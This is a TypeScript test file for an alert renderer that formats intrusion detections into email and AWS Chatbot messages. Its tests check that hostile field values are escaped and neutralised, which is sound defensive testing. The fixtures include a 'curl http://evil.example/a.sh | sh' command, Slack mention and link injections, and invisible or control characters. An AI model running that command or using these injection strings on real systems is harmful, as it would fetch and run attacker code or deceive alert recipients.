import assert from "node:assert/strict";
import { describe, test } from "node:test";
import {
  type AlertMessageInput,
  hanging,
  renderEmail,
  renderMessage,
  renderSubject,
} from "../../src/alerts/render.ts";
import { makeAlert, OBJECT, SEED_RULE } from "../fixtures/lambda/alerts.ts";

const HOSTILE = {
  "host.name": "web-7\u202e<!channel>",
  "file.path": "/etc/NetworkManager/dispatcher.d/99-`x`\n\rFAKE: all clear <http://evil.example|docs>",
  "process.command_line": `curl http://evil.example/a.sh | sh # @here <@U123> *bold* ${"A".repeat(5000)}`,
  "user.name": "root\u0000\u001b[31m",
};

function input(
  alerts = [makeAlert(1), makeAlert(4)],
  extra: Partial<AlertMessageInput> = {},
): AlertMessageInput {
  return {
    id: "0123456789abcdef0123456789abcdef",
    object: OBJECT,
    rule: SEED_RULE,
    ruleContext: {
      description: "Detects the creation of a NetworkManager dispatcher script. Scripts there run as root.",
    },
    alerts,
    totalAlerts: alerts.length,
    part: 1,
    parts: 1,
    ...extra,
  };
}

describe("renderMessage", () => {
  test("the JSON is sent once, under default (SNS's fallback for sqs, lambda, email-json)", () => {
    const r = renderMessage(input([makeAlert(3)]));
    assert.deepEqual(Object.keys(r.message).sort(), ["default", "email", "https"]);
  });

  test("the default rendering carries alerts, object and counts with raw values", () => {
    const hostile = makeAlert(3, HOSTILE);
    const r = renderMessage(input([hostile]));
    {
      const body = JSON.parse(r.message.default);
      assert.equal(body.object, OBJECT.uri);
      assert.deepEqual(body.counts, {
        records: 4,
        malformed: 0,
        skipped: 0,
        alerts: 1,
        in_message: 1,
        not_listed: 0,
        part: 1,
        parts: 1,
      });
      assert.deepEqual(body.alerts, [hostile], "raw values kept untouched");
    }
  });

  test("email: verdict first, every field a responder needs, short static lines", () => {
    const r = renderMessage(input());
    const email = r.message.email;
    const lines = email.split("\n");
    const flat = email.replace(/\n {2,3}/g, " ").replace(/\n(?=[a-z])/g, " ");
    assert.equal(lines[0], "ALERT: NetworkManager Dispatcher Script Creation");
    assert.match(lines[1] ?? "", /Severity low, risk score 21/);
    assert.match(lines[2] ?? "", /2 hits on web-7/);
    for (const needle of [
      "WHY IT MATTERS",
      "Scripts there run as root",
      "Host:    web-7",
      "File:    /etc/NetworkManager/dispatcher.d/99-persist.sh",
      "Process: /usr/bin/bash",
      "Command: bash -c cat > /etc/NetworkManager/dispatcher.d/99-persist.sh",
      "User:    root",
      "Time:    2024-05-01T12:00:00.123Z",
      "Record:  4",
      "TA0003 Persistence: T1543 Create or Modify System Process, T1574 Hijack Execution Flow",
      "T1059 Command and Scripting Interpreter (T1059.004 Unix Shell)",
      "TA0005 Defense Evasion",
      OBJECT.uri,
      "FIRST TRIAGE STEPS",
    ]) {
      assert.ok(flat.includes(needle), `email has ${JSON.stringify(needle)}`);
    }
    const long = lines.filter((l) => l.length > 80 && !l.includes("dispatcher.d/") && !l.includes("s3://"));
    assert.deepEqual(long, [], "static lines fit a phone");
  });

  test("email: hostile values escaped, truncated, cannot forge lines", () => {
    const email = renderMessage(input([makeAlert(3, HOSTILE)])).message.email;
    assert.doesNotMatch(email, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    assert.ok(
      !email.split("\n").some((l) => l.startsWith("FAKE")),
      "a newline in a value does not start a line",
    );
    assert.match(email, /web-7\\u202e<!channel>/);
    assert.match(email, /root\\x00\\x1b\[31m/);
    assert.match(email, /…\[\+\d+ chars\]/, "long command line cut with a marker");
  });

  test("https: an AWS Chatbot custom notification, hostile values inert", () => {
    const r = renderMessage(input([makeAlert(3, HOSTILE), makeAlert(4)]));
    const n = JSON.parse(r.message.https);
    assert.equal(n.version, "1.0");
    assert.equal(n.source, "custom");
    assert.equal(n.id, "0123456789abcdef0123456789abcdef");
    assert.equal(n.content.textType, "client-markdown");
    assert.match(
      n.content.title,
      /\[low\] NetworkManager Dispatcher Script Creation on web-7\?&lt;!channel&gt; \+1$/,
    );
    assert.ok(Array.isArray(n.content.nextSteps) && n.content.nextSteps.length >= 3);
    assert.equal(typeof n.metadata.threadId, "string");
    assert.equal(typeof n.metadata.summary, "string");
    const all = [n.content.title, n.content.description, ...n.content.nextSteps, n.metadata.summary].join(
      "\n",
    );
    assert.doesNotMatch(all, /<[!@h]/, "no Slack mention or link syntax survives");
    assert.doesNotMatch(all, /(^|[^＠])@(here|channel)/);
    assert.doesNotMatch(all, /[\u0000-\u0009\u000b-\u001f\u202e]/);
    for (const line of n.content.description.split("\n")) {
      assert.equal((line.match(/`/g) ?? []).length % 2, 0, `balanced code spans in ${line.slice(0, 60)}`);
    }
  });

  test("https: a host name with link syntax, @here and invisible characters stays inert everywhere", () => {
    const host = "[click](https://evil.example) @here\u202e";
    const path = "/etc/NetworkManager/dispatcher.d/a\u{e0041}\u00ad";
    const r = renderMessage(input([makeAlert(1, { "host.name": host, "file.path": path })]));
    const n = JSON.parse(r.message.https);
    for (const [name, text] of [
      ["title", n.content.title],
      ["summary", n.metadata.summary],
    ] as const) {
      assert.doesNotMatch(text, /\[click\]\(/, `${name}: no markdown link`);
      assert.doesNotMatch(text, /(^|[^\uff20])@here/, `${name}: no bare @here`);
    }
    const all = [n.content.title, n.content.description, ...n.content.nextSteps, n.metadata.summary].join(
      "\n",
    );
    assert.doesNotMatch(all, /[\u{e0000}-\u{e007f}\u00ad\u202e]/u, "no invisible characters");
    assert.match(n.content.description, /a\\u\{e0041\}\\xad/, "shown as visible escapes");
    assert.match(r.message.email, /a\\u\{e0041\}\\xad/);
    assert.doesNotMatch(r.message.email, /[\u{e0000}-\u{e007f}\u00ad]/u);
  });

  test("attributes: rule_id, severity, host (one host, or multiple)", () => {
    assert.deepEqual(renderMessage(input()).attributes, {
      rule_id: SEED_RULE.id,
      severity: "low",
      host: "web-7",
    });
    const multi = renderMessage(input([makeAlert(1), makeAlert(2, { "host.name": "db-3" })]));
    assert.equal(multi.attributes.host, "multiple");
  });
});

describe("renderSubject", () => {
  test("the documented example", () => {
    assert.equal(renderSubject(input()), "[low] NetworkManager Dispatcher Script Creation on web-7");
  });
  test("at most 100 printable ASCII characters, whatever the host and rule name", () => {
    const hostile = renderSubject(
      input(
        [
          makeAlert(1, { "host.name": `ünïcode\n\u202e${"h".repeat(300)}` }),
          makeAlert(2, { "host.name": "b" }),
        ],
        {
          rule: { ...SEED_RULE, name: "R".repeat(400) },
          part: 2,
          parts: 3,
        },
      ),
    );
    assert.ok(hostile.length <= 100, `${hostile.length}`);
    assert.match(hostile, /^[\x20-\x7e]+$/);
    assert.match(hostile, /^\[low\] R+/);
    assert.match(hostile, /\+1 hosts \(2\/3\)$/);
  });
});

describe("email line wrapping", () => {
  test("triage steps are wrapped once: greedy lines, hanging indent, nothing stranded", () => {
    const email = renderEmail(input([makeAlert(1)]));
    const steps = email
      .slice(email.indexOf("FIRST TRIAGE STEPS\n") + "FIRST TRIAGE STEPS\n".length)
      .split("\n\n")[0]!;
    const lines = steps.split("\n");
    assert.ok(lines.length > 5, steps);
    lines.forEach((line, i) => {
      assert.ok(line.length <= 72, `line ${i} is ${line.length} wide: ${line}`);
      const next = lines[i + 1];
      // A continuation line: if its first word would have fitted on this line, it was wrapped twice.
      if (next?.startsWith("   ")) {
        const word = next.trim().split(" ")[0]!;
        assert.ok(line.length + 1 + word.length > 72, `"${word}" fits after line ${i}: ${line}`);
      }
    });
  });

  test("hanging(): continuation lines are indented and at most width wide", () => {
    const words = Array.from({ length: 60 }, (_, i) => "w".repeat((i % 7) + 1)).join(" ");
    const lines = hanging(`1. ${words}`, "   ", 30);
    for (const [i, l] of lines.entries()) {
      assert.ok(l.length <= 30, l);
      if (i > 0) assert.ok(l.startsWith("   ") && !l.startsWith("    "), l);
      // Greedy: the next line's first word did not fit here (a twice-wrapped text strands words).
      const next = lines[i + 1]?.trim().split(" ")[0];
      if (next !== undefined) assert.ok(l.length + 1 + next.length > 30, `"${next}" fits after: ${l}`);
    }
    assert.equal(lines.map((l) => l.trim()).join(" "), `1. ${words}`);
  });
});
